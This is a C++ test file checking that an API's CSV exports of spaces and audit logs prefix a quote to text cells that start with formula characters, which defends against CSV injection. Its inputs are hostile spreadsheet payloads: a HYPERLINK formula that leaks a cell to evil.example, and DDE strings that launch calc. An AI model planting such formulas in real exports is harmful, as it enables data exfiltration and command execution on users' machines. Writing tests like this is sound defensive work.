// CSV downloads opened in a spreadsheet: text that people wrote (a space's name, notes, an
// e-mail address) must never be evaluated as a formula. Every text cell that starts with =, +,
// -, @, tab or CR comes out quoted with a single quote in front (OWASP, CSV injection), in the
// spaces export and in the audit log alike; numbers the server writes stay numbers.

#include "api_test.hpp"
#include "support/csv_reader.hpp"

namespace impetus::test {
namespace {

// The cell as RFC 4180 writes it once neutralised: in quotes, quotes doubled, ' in front.
std::string neutralised_field(const std::string& value) {
    std::string out = "\"'";
    for (char c : value) {
        if (c == '"') out += '"';
        out += c;
    }
    return out + "\"";
}

class CsvInjection : public ApiTest {
protected:
    CsvInjection() { create_workspace("lille"); }
};

TEST_F(CsvInjection, SpacesExportNeutralisesFormulasInText) {
    // Each hostile value sits in a text column people fill in; the position is west of
    // Greenwich so that the longitude, a number, starts with a minus sign.
    const std::vector<std::pair<std::string, std::string>> hostile{
        {"name", R"(=HYPERLINK("http://evil.example/?"&A1,"Click"))"},
        {"address", "+33 1 23 45 67 89"},
        {"notes", "-2+3+cmd|' /C calc'!A0"},
        {"planned_future_use", "@SUM(1+1)*cmd|' /C calc'!A0"},
    };
    json body = space_body("placeholder", point_geometry(-0.14, 50.83));
    for (const auto& [field, value] : hostile) body[field] = value;
    const auto id = create_space("lille", body).at("id").get<std::int64_t>();
    // Tab and carriage return in front of a formula, in a second space.
    json second = space_body("\t=1+1", point_geometry(-0.15, 50.84));
    second["notes"] = "\r=2+2";
    const auto second_id = create_space("lille", second).at("id").get<std::int64_t>();
    create_space("lille", space_body("Plain name", point_geometry(3.06, 50.63)));

    const auto r = http.get(spaces_path("lille") + ".csv?sort=id");
    ASSERT_EQ(r.status, 200) << r.body;
    const auto rows = parse_csv(r.body);
    ASSERT_EQ(rows.size(), 4u) << r.body;
    const auto& header = rows[0];
    const auto& row = rows[1];
    ASSERT_EQ(row[csv_column(header, "id")], std::to_string(id));
    for (const auto& [field, value] : hostile) {
        SCOPED_TRACE(field);
        EXPECT_EQ(row[csv_column(header, field)], "'" + value);
        EXPECT_NE(r.body.find("," + neutralised_field(value) + ","), std::string::npos) << r.body;
    }
    const auto& row2 = rows[2];
    ASSERT_EQ(row2[csv_column(header, "id")], std::to_string(second_id));
    EXPECT_EQ(row2[csv_column(header, "name")], "'\t=1+1");
    EXPECT_EQ(row2[csv_column(header, "notes")], "'\r=2+2");
    EXPECT_NE(r.body.find(",\"'\t=1+1\","), std::string::npos) << r.body;

    // Numbers are not text: written as they are, the minus sign included.
    EXPECT_NE(r.body.find("\r\n" + std::to_string(id) + ",lille,"), std::string::npos) << r.body;
    EXPECT_EQ(row[csv_column(header, "longitude")], "-0.14");
    EXPECT_NE(r.body.find(",-0.14,50.83,"), std::string::npos) << r.body;
    EXPECT_EQ(rows[3][csv_column(header, "name")], "Plain name");
    EXPECT_NE(r.body.find(",Plain name,"), std::string::npos) << "plain text stays unquoted";
    // The geometry starts with a letter and is no formula.
    EXPECT_EQ(row[csv_column(header, "geometry_wkt")], "POINT (-0.14 50.83)");
}

TEST_F(CsvInjection, AuditLogNeutralisesFormulasInText) {
    // E-mail addresses may start with = + - (RFC 5322 allows them in the local part); the
    // address (kept in lower case) becomes the actor column of every change its owner makes.
    const std::vector<std::string> emails{"=cmd|'/ccalc'!a0@evil.example",
                                          "+1+cmd|'/ccalc'!a0@evil.example",
                                          "-2+3@evil.example"};
    for (const auto& email : emails) {
        const Account a = add_user(email, "lille", Role::officer);
        require_status(as(a, "POST", spaces_path("lille"),
                          space_body("@SUM(1+1)", point_geometry(-0.14, 50.83))),
                       201, "create a space as " + email);
    }

    const auto r = http.get("/api/v1/workspaces/lille/audit.csv?entity=space");
    ASSERT_EQ(r.status, 200) << r.body;
    const auto rows = parse_csv(r.body);
    ASSERT_EQ(rows.size(), 1u + emails.size()) << r.body;
    const auto& header = rows[0];
    std::set<std::string> actors;
    for (std::size_t i = 1; i < rows.size(); ++i) {
        actors.insert(rows[i][csv_column(header, "actor")]);
        // Numbers stay numbers: unquoted digits.
        for (const char* column : {"id", "user_id", "entity_id"}) {
            const std::string& v = rows[i][csv_column(header, column)];
            EXPECT_FALSE(v.empty()) << column;
            EXPECT_EQ(v.find_first_not_of("0123456789"), std::string::npos) << column << ": " << v;
        }
        // The JSON of the change starts with a brace: it needs no quote in front.
        EXPECT_EQ(rows[i][csv_column(header, "after")].substr(0, 1), "{");
    }
    std::set<std::string> expected;
    for (const auto& email : emails) {
        expected.insert("'" + email);
        EXPECT_NE(r.body.find("," + neutralised_field(email) + ","), std::string::npos) << r.body;
    }
    EXPECT_EQ(actors, expected);
}

} // namespace
} // namespace impetus::test
